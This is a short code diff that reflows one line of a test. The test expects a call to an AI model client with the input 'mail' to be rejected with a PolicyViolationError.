-    await expect(client.responses.create({ model: 'gpt-4o-mini', input: 'mail' })).rejects.toBeInstanceOf(PolicyViolationError);
+    await expect(
+      client.responses.create({ model: 'gpt-4o-mini', input: 'mail' }),
+    ).rejects.toBeInstanceOf(PolicyViolationError);
   });
 });
